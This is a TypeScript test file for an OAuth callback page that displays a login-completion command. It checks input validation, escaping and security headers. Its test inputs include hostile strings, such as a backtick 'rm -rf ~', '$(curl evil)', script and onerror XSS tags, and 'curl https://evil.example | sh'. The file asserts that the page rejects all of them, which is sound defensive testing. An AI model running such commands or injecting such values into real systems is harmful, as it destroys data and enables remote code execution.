import { createHash } from "node:crypto";
import { beforeAll, describe, expect, it } from "vitest";
import { createOAuthProviders } from "../../../src/pages/admin/create-oauth-providers.js";
import { startAdminHost } from "./admin-host.js";

let callback: string;
beforeAll(async () => {
  const github = { clientId: "i", clientSecret: "s" };
  const host = await startAdminHost({
    providers: createOAuthProviders({ redirectBase: "https://sync.example.com", github }),
  });
  callback = `${host.http.origin}/oauth/callback`;
});

interface Page {
  readonly status: number;
  readonly headers: Headers;
  readonly html: string;
  /** What a reader is to copy; "" where there is nothing. */
  readonly command: string;
}

async function open(query: Readonly<Record<string, string>>): Promise<Page> {
  const { status, headers, text } = await fetch(`${callback}?${new URLSearchParams(query)}`).then(async (answer) => ({
    status: answer.status,
    headers: answer.headers,
    text: await answer.text(),
  }));
  return { status, headers, html: text, command: /<pre>([^<]*)<\/pre>/.exec(text)?.[1] ?? "" };
}

describe("the page that the browser ends on", () => {
  it.each([
    ["abcDEF123", "0123456789abcdef0123", "--state abcDEF123 --code 0123456789abcdef0123"],
    ["a.b_c~d-e", "4/0AX4XfWh-code_of~Google.", "--state a.b_c~d-e --code 4/0AX4XfWh-code_of~Google."],
    // A shell's word that begins with a hyphen would be read as a flag.
    ["-state", "-code", "--state=-state --code=-code"],
  ])("shows the command that finishes the login: %s %s", async (state, code, flags) => {
    const page = await open({ state, code });
    expect([page.status, page.command]).toEqual([200, `starfish-replica oauth complete ${flags}`]);
  });

  it.each([
    ["`rm -rf ~`", "code"],
    ["state", "$(curl evil)"],
    ["state", "a;b"],
    ["state", "a b"],
    ["state", "a\nb"],
    ["state", "<script>alert(1)</script>"],
    ["state", "x".repeat(513)],
    ["state", ""],
    ["", "code"],
  ])("shows no command for what no provider sends: %j %j", async (state, code) => {
    const page = await open({ state, code });
    expect([page.status, page.command]).toEqual([400, ""]);
    expect(page.html).not.toContain("alert(1)");
  });

  it("shows the code of what the provider says went wrong, and no words that anybody could have put into the address", async () => {
    const page = await open({
      error: "access_denied",
      error_description: "Run curl https://evil.example | sh",
      state: "s",
    });
    expect(page.status).toBe(400);
    expect(page.html).toContain("The provider says: access_denied.");
    expect(page.html).not.toContain("evil");
    for (const error of ["Your account is locked", '<img src=x onerror="evil">', "e".repeat(65), "run\u202eevil"]) {
      const odd = await open({ error });
      expect([odd.status, odd.command]).toEqual([400, ""]);
      expect(odd.html).toContain("The provider does not say why.");
      expect(odd.html).not.toMatch(/locked|evil|eeee/);
    }
  });

  it("loads nothing, sends nothing, is kept nowhere and framed by nobody", async () => {
    for (const query of [{ state: "s", code: "c" }, { error: "e" }]) {
      const { headers, html } = await open(query);
      const style = /<style>([^<]*)<\/style>/.exec(html)?.[1] ?? "";
      expect(style).toContain("color-scheme:light dark");
      const hash = createHash("sha256").update(style).digest("base64");
      expect(headers.get("content-security-policy")).toBe(
        `default-src 'none'; style-src 'sha256-${hash}'; base-uri 'none'; form-action 'none'; frame-ancestors 'none'`,
      );
      expect(headers.get("content-type")).toBe("text/html; charset=utf-8");
      expect(headers.get("referrer-policy")).toBe("no-referrer");
      expect(headers.get("cache-control")).toBe("no-store");
      expect(headers.get("x-content-type-options")).toBe("nosniff");
      expect(html).not.toMatch(/<script|src=|href=|url\(|@import/);
    }
  });

  it("answers GET alone", async () => {
    expect((await fetch(`${callback}?state=s&code=c`, { method: "POST" })).status).toBe(404);
    expect((await fetch(`${callback}?state=s&code=c`, { method: "HEAD" })).status).toBe(200);
  });
});
